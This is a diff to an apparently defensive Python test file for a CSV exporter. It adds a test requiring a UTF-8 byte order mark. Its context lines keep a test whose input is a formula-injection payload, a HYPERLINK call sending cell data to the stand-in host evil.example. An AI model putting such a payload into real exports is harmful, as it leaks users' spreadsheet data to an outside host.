@@ -1,5 +1,6 @@
 """A spreadsheet that opens an export runs nothing in it, wherever a cell begins."""
 
+import codecs
 import csv
 import io
 
@@ -44,3 +45,10 @@ def test_no_cell_is_a_formula_at_any_separator(delimiter: str) -> None:
     label = 'Jobs;=HYPERLINK("http://evil.example/?"&A1)\t=1'
     for row in csv.reader(csv_lines(["id", "label"], [["1", label]]), delimiter=delimiter):
         assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_a_spreadsheet_recognizes_the_encoding() -> None:
+    """Excel shows "SÃ¶hne" without the byte order mark."""
+    written = "".join(csv_lines(["Label"], [["Söhne"]])).encode()
+    assert written.startswith(codecs.BOM_UTF8)
+    assert written.decode("utf-8-sig") == "Label\r\nSöhne\r\n"
